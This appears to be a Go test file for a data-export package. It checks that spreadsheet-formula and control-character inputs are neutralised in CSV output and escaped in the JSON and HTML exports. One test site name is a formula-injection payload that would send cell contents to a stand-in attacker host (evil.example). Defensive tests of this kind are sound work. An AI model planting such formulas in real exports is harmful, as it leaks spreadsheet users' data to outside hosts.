package insights

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"strings"
	"testing"
	"time"
)

func TestCSVSafe(t *testing.T) {
	for in, want := range map[string]string{
		"Central Library":          "Central Library",
		"=HYPERLINK(\"http://x\")": "'=HYPERLINK(\"http://x\")",
		"+44 20 7946 0000":         "'+44 20 7946 0000",
		"-2+3":                     "'-2+3",
		"@SUM(A1)":                 "'@SUM(A1)",
		"  =1+1":                   "'  =1+1",
		"\t=1+1":                   "'\t=1+1",
		"\r=1":                     "'\r=1",
		"＝1+1":                     "'＝1+1",
		"Library\x00\x1b[31m":      "Library[31m",
		"":                         "",
		"St Mary's = best":         "St Mary's = best",
		"O'Neill Hub":              "O'Neill Hub",
	} {
		if got := CSVSafe(in); got != want {
			t.Errorf("CSVSafe(%q) = %q, want %q", in, got, want)
		}
	}
}

// TestExportsOfHostileNames: a site named like a formula comes out of
// the CSV inert and out of the JSON as the same string.
func TestExportsOfHostileNames(t *testing.T) {
	in := seedInput(5, councilSites[:2], Date{2025, time.April, 1}, 1)
	in.Sites[1].Name = `=HYPERLINK("http://evil.example/?"&A1,"Click")`
	f := mustBuild(in, "", MonthOf(2025, time.April), 5)
	c, ok := f.Chart(SitesChart)
	if !ok {
		t.Fatal("no sites chart")
	}
	var buf bytes.Buffer
	if err := c.Table.WriteCSV(&buf); err != nil {
		t.Fatal(err)
	}
	recs, err := csv.NewReader(&buf).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	found := false
	for _, r := range recs {
		for _, cell := range r {
			if strings.Contains(cell, "HYPERLINK") {
				found = true
				if !strings.HasPrefix(cell, "'=") {
					t.Errorf("CSV cell %q is a live formula", cell)
				}
			}
		}
	}
	if !found {
		t.Error("the site's name is not in the CSV")
	}
	buf.Reset()
	if err := f.WriteJSON(&buf, SitesChart); err != nil {
		t.Fatal(err)
	}
	var doc struct {
		Schema  string
		Version int
		Charts  []struct {
			ID   string
			Rows []map[string]any
		}
	}
	if err := json.Unmarshal(buf.Bytes(), &doc); err != nil {
		t.Fatal(err)
	}
	if doc.Schema != Schema || doc.Version != SchemaVersion || len(doc.Charts) != 1 || doc.Charts[0].ID != SitesChart {
		t.Fatalf("JSON of one chart: %+v", doc)
	}
	names := map[any]any{}
	for _, r := range doc.Charts[0].Rows {
		names[r["site_id"]] = r["site"]
	}
	if got := names[in.Sites[1].ID]; got != in.Sites[1].Name {
		t.Errorf("JSON site name %q", got)
	}
	// The page escapes it like any text.
	buf.Reset()
	f.RenderPage(&buf, PageOptions{})
	if strings.Contains(buf.String(), `"http://evil.example/?"&A1`) {
		t.Error("the page has the name unescaped")
	}
}
